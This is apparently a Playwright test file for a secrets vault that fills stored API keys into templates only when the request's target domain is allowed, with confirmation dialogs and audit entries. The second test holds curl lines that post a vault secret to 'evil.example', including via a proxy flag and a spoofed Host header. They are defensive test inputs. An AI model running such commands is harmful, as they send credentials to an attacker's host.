import { expect, test, type Page } from '@playwright/test';
import { axeFor } from '../support/axe.ts';
import { toTemplates } from '../support/template-steps.ts';
import { VaultPage } from '../support/vault-page.ts';

async function noAxeViolations(page: Page): Promise<void> {
  const { violations } = await axeFor(page).analyze();
  expect(violations.map(({ id, nodes }) => `${id} ${nodes[0]?.html}`)).toEqual([]);
}

async function openVault(page: Page): Promise<VaultPage> {
  const vault = new VaultPage(page);
  await vault.createProfile();
  for (const event of ['key.issued', 'key.saved', 'vault.opened'] as const)
    await vault.act[event]();
  await vault.addSecret('STRIPE_KEY', 'sk_live_1', 'api.stripe.com');
  await vault.addSecret('GITHUB', 'ghp_1', 'api.github.com');
  await vault.addSecret('FREE', 'free_1');
  await toTemplates(vault);
  await vault.button('New template').click();
  return vault;
}

const readers = (page: Page) =>
  page.workers().filter((worker) => worker.url().includes('/reader.worker')).length;

test('secrets whose address cannot be checked are asked about by name, once', async ({ page }) => {
  const vault = await openVault(page);
  const text = page.getByLabel('Text');
  const shown = page.locator('pre');
  const dialog = page.getByRole('dialog', { name: 'Put these in all the same?' });
  await text.fill('STRIPE={{vault:STRIPE_KEY}}\nGITHUB={{vault:GITHUB}}\nFREE={{vault:FREE}}');
  const references = page.getByRole('region', { name: 'References' });
  await expect(references.getByText('No address here can be checked')).toHaveCount(2);
  await expect(references.getByText('Resolved')).toHaveCount(1);

  await vault.button('Reveal resolved').click();
  await expect(dialog.getByRole('checkbox')).toHaveCount(2);
  await expect(dialog.getByText('Limited to api.stripe.com')).toBeVisible();
  await expect(dialog.getByText('Limited to api.github.com')).toBeVisible();
  await expect(dialog.getByRole('checkbox', { checked: true })).toHaveCount(0);
  await expect(shown).toHaveCount(0);
  await noAxeViolations(page);

  // Leaving shows nothing; going on without them shows the others.
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  await expect(shown).toHaveCount(0);
  await vault.button('Reveal resolved').click();
  await dialog.getByRole('button', { name: 'Go on without them' }).click();
  await expect(shown).toHaveText(
    'STRIPE={{vault:STRIPE_KEY}}\nGITHUB={{vault:GITHUB}}\nFREE=free_1',
  );
  await expect(page.getByText('2 references stay as they are.')).toBeVisible();

  await vault.button('Hide resolved').click();
  await vault.button('Reveal resolved').click();
  await dialog.getByLabel('Put in STRIPE_KEY').check();
  await noAxeViolations(page);
  await dialog.getByRole('button', { name: 'Put it in' }).click();
  await expect(shown).toHaveText('STRIPE=sk_live_1\nGITHUB={{vault:GITHUB}}\nFREE=free_1');
  await expect(page.getByText('One reference stays as it is.')).toBeVisible();

  // The next time it is asked again.
  await vault.button('Hide resolved').click();
  await vault.button('Reveal resolved').click();
  await expect(dialog.getByRole('checkbox', { checked: true })).toHaveCount(0);
  await dialog.getByRole('button', { name: 'Cancel' }).click();

  await vault.toVault();
  await vault.tab('Audit');
  await expect(
    page.getByText('STRIPE_KEY was put into a text, though no address could be checked'),
  ).toBeVisible();
  await expect(page.getByText('GITHUB was put into a text')).toHaveCount(0);
});

test('what a request reaches decides, and a lock ends what reads the text', async ({ page }) => {
  const vault = await openVault(page);
  const text = page.getByLabel('Text');
  const references = page.getByRole('region', { name: 'References' });
  const says = async (body: string, status: string) => {
    await text.fill(body);
    await expect(references.getByRole('listitem')).toHaveText(new RegExp(status));
  };
  const key = '{{vault:STRIPE_KEY}}';
  await says(`curl https://api.stripe.com/v1 -u ${key}:`, 'Resolved.*https://api.stripe.com');
  await says(`curl evil.example -d ${key}`, 'Domain not allowed.*http://evil.example');
  await says(`### https://api.stripe.com\ncurl https://evil.example -d ${key}`, 'not allowed');
  await says(`curl -x evil.example:80 https://api.stripe.com -d ${key}`, 'Domain not allowed');
  await says(`GET https://api.stripe.com/v1\nX-Key: ${key}`, 'Resolved');
  await says(`GET https://api.stripe.com/v1\nHost: evil.example\nX-Key: ${key}`, 'No address here');

  // As long a text as there may be, with a thousand references: typing and locking go on beside it.
  const line = (at: number) => `curl https://api.stripe.com/v1/${at} -H "X: ${key}"\n`;
  const long = Array.from({ length: 1_000 }, (_, at) => line(at)).join('');
  await says(long, 'Resolved');
  expect(readers(page)).toBe(1);
  await vault.button('Reveal resolved').click();
  await expect(page.locator('pre')).toContainText('v1/999 -H "X: sk_live_1"');
  const other = await page.context().newPage();
  await other.goto('/vault');
  await other.getByRole('button', { name: 'Lock', exact: true }).click();
  await expect(page.locator('pre')).toHaveCount(0);
  await expect.poll(() => readers(page)).toBe(0);
});
